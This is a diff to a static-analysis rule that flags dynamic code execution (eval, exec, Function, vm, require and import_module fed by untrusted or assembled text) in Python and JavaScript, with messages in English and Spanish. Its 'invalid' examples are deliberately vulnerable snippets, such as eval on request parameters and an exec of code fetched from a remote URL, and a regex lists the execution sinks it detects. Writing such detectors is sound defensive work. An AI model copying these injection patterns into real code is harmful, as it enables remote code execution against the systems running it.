@@ -4,15 +4,33 @@ import type { SourceFile } from '../../semantics/source-file.ts'
 import type { SyntaxNode } from '../../syntax/tree.ts'
 import { js, py, ts } from '../example.ts'
 import { defineRule } from '../rule.ts'
+import { argument, calleeName } from '../support/calls.ts'
+import { isCheckedHere } from '../support/checks.ts'
+import { calledName } from '../support/full-name.ts'
+import { isHole, isPutTogether, type Piece, textsOf } from '../support/text-pieces.ts'
+import { type Source, sourceText, untrusted, untrustedHole } from '../support/untrusted.ts'
 
 export default defineRule({
   id: 'security/dynamic-code',
-  severity: 'warning',
+  severity: 'error',
   languages: ['python', 'typescript', 'javascript'],
-  cwe: [95],
+  cwe: [94, 95],
   concept: 'injection',
   impact: { likelihood: 'medium', cost: 'weeks' },
-  callees: ['eval', 'exec', 'Function'],
+  callees: [
+    ...[
+      'eval',
+      'exec',
+      'compile',
+      'import_module',
+      '__import__',
+      'Function',
+      'setTimeout',
+      'setInterval',
+      'require',
+    ],
+    ...['runInNewContext', 'runInThisContext', 'runInContext', 'Script', 'compileFunction'],
+  ],
 
   check: {
     Call: dynamicCode,
@@ -20,48 +38,152 @@ export default defineRule({
   },
 
   explain: {
-    en: ({ name }) => ({
-      message: `\`${name}\` runs text that is put together at run time`,
-      why: 'Whoever can influence a part of that text can make the program do anything it is able to do.',
-      remedy: 'Parse the text as data, or choose among functions with a table.',
+    en: ({ name, value, isStranger, isLoader }) => ({
+      message: isLoader
+        ? `\`${value}\` decides which module \`${name}\` loads`
+        : `\`${name}\` runs \`${value}\` as code`,
+      why: isStranger
+        ? 'Whoever sends that text can make the program do anything it is able to do.'
+        : 'Whoever can influence a part of that text can make the program do anything it is able to do.',
+      remedy: 'Read the text as data, or choose among functions with a table.',
     }),
-    es: ({ name }) => ({
-      message: `\`${name}\` ejecuta texto que se compone en tiempo de ejecución`,
-      why: 'Quien pueda influir en una parte de ese texto puede hacer que el programa haga cualquier cosa que esté a su alcance.',
-      remedy: 'Interpreta el texto como datos o elige entre funciones con una tabla.',
+    es: ({ name, value, isStranger, isLoader }) => ({
+      message: isLoader
+        ? `\`${value}\` decide qué módulo carga \`${name}\``
+        : `\`${name}\` ejecuta \`${value}\` como código`,
+      why: isStranger
+        ? 'Quien envíe ese texto puede hacer que el programa haga cualquier cosa que esté a su alcance.'
+        : 'Quien pueda influir en una parte de ese texto puede hacer que el programa haga cualquier cosa que esté a su alcance.',
+      remedy: 'Lee el texto como datos o elige entre funciones con una tabla.',
     }),
   },
 
   examples: {
     invalid: [
-      py`eval(«"f(" + name + ")"»)`,
-      js`eval(«"f(" + name + ")"»)`,
-      ts`const f = new Function('x', «\`return \${body}\`»)`,
+      py`
+        def call(name):
+            return eval(«"f(" + name + ")"»)
+      `,
+      py`
+        def setter(attribute):
+            exec(«f"def set(it, value): it.{attribute} = value"»)
+      `,
+      py`
+        from flask import request
+        def calculate():
+            return str(eval(«request.args["formula"]»))
+      `,
+      py`
+        import importlib
+        def load(request):
+            return importlib.import_module(«"plugins." + request.GET["plugin"]»)
+
+        from django.http import HttpRequest
+      `,
+      py`
+        import requests
+        exec(«requests.get("https://example.com/setup.py").text»)
+      `,
+      js`export function call(name) { return eval(«"f(" + name + ")"») }`,
+      js`app.post('/tax', (req, res) => res.json(eval(«req.body.preTax»)))`,
+      js`setTimeout(«'show("' + location.hash.slice(1) + '")'», 100)`,
+      js`
+        const vm = require('vm')
+        app.post('/run', (req, res) => res.json(vm.runInNewContext(«req.body.code», {})))
+      `,
+      js`app.get('/plugin', (req, res) => require(«'./plugins/' + req.query.name»).run(res))`,
+      ts`export const getter = (path: string) => new Function('x', «\`return x.\${path}\`»)`,
     ],
     valid: [
       py`eval("1 + 1")`,
       py`model.eval()`,
-      js`const eval = parse; eval("a" + b)`,
+      py`
+        def run(code):
+            exec(code)
+      `,
+      py`
+        def run(op, x, y):
+            if op not in ("+", "-"):
+                raise ValueError(op)
+            return eval("x" + op + "y")
+      `,
+      py`
+        import re
+        def words(text, first: int):
+            exec(f"x = {first}")
+            return re.compile("a" + text)
+      `,
+      py`
+        import importlib
+        def load(name):
+            return importlib.import_module("plugins." + name)
+      `,
+      js`const eval = parse; export const f = b => eval("a" + b)`,
+      js`export const load = name => eval(\`import(\${JSON.stringify(name)})\`)`,
+      js`export const value = text => eval(\`(\${text})\`)`,
+      js`setTimeout(() => show(location.hash), 100)`,
+      js`export const load = name => require('./plugins/' + name)`,
       ts`new Function('return this')()`,
+      ts`
+        type Operator = '+' | '-'
+        export const operate = (operator: Operator) => new Function('a', 'b', \`return a \${operator} b\`)
+      `,
     ],
   },
 })
 
+const RUNNERS =
+  /^((builtins\.)?(eval|exec|compile)|importlib\.import_module|__import__|Function|(window\.|globalThis\.)?(eval|setTimeout|setInterval)|require|vm\.(runInNewContext|runInThisContext|runInContext|Script|compileFunction))$/
+
+/** What looks for a module runs only code that is there already: nothing to report but what a stranger chooses. */
+const LOADERS = /^(importlib\.import_module|__import__|require)$/
+
 function* dynamicCode(node: SyntaxNode, file: SourceFile) {
-  const callee = node.child('callee')
-  if (callee?.kind !== 'Name' || !file.isFree(callee)) return
-  const code = callee.name === 'Function' ? node.children('argument').at(-1) : node.children('argument')[0]
-  const source = code && file.value(code)
-  if (!source || !isComposed(source) || file.constant(source)) return
-  yield { at: code, data: { name: callee.name } }
+  const name = calledName(file, node)
+  if (!RUNNERS.test(name) || !isBuiltIn(file, node, name)) return
+  const code = name === 'Function' ? node.children('argument').at(-1) : argument(node, 0)
+  if (!code || code.kind === 'Function' || file.constant(code)) return
+  const source = codeSource(file, code, LOADERS.test(name))
+  if (!source) return
+  yield {
+    at: code,
+    data: {
+      name: calleeName(node),
+      value: sourceText(source),
+      isLoader: LOADERS.test(name),
+      isStranger: source.origin !== 'caller' && source.origin !== 'user',
+    },
+    ...(code.contains(source.at) ? {} : { related: [source.at] }),
+  }
 }
 
-/** Text that is glued from parts, one of which is not a literal. */
-function isComposed(node: SyntaxNode): boolean {
+/** `eval` and not `model.eval`; a name that the file gives to something else has no full name. */
+function isBuiltIn(file: SourceFile, node: SyntaxNode, name: string): boolean {
+  if (name === 'eval' || name === 'exec' || name === 'compile')
+    return name === 'eval' || file.language === 'python'
+  return node.kind !== 'New' || /^(Function|vm\.Script)$/.test(name)
+}
+
+/** All of it from a stranger; or put together with what somebody passes, and meant to be more than that. */
+function codeSource(file: SourceFile, code: SyntaxNode, isLoader: boolean): Source | undefined {
+  const stranger = untrusted(file, code, { origins: isLoader ? ['request'] : ['request', 'page', 'remote'] })
+  if (stranger || isLoader || file.isTest || isCheckedHere(file, code)) return stranger
+  for (const pieces of textsOf(file, code)) {
+    if (!isPutTogether(pieces) || isWrapper(pieces)) continue
+    for (const piece of pieces) {
+      const source = isHole(piece)
+        ? untrustedHole(file, piece, code, { origins: ['user', 'caller'] })
+        : undefined
+      if (source) return source
+    }
+  }
+  return undefined
+}
+
+/** `(${text})` and `return ${text}`: a function that is there to evaluate what it is given. */
+function isWrapper(pieces: readonly Piece[]): boolean {
   return (
-    node.kind === 'Template' ||
-    (node.kind === 'Binary' &&
-      (node.operator === '+' || node.operator === '%') &&
-      node.has('String', 'Template'))
+    pieces.filter(isHole).length === 1 &&
+    pieces.every(it => typeof it !== 'string' || /^[\s();{}]*(return)?[\s();{}]*$/.test(it))
   )
 }
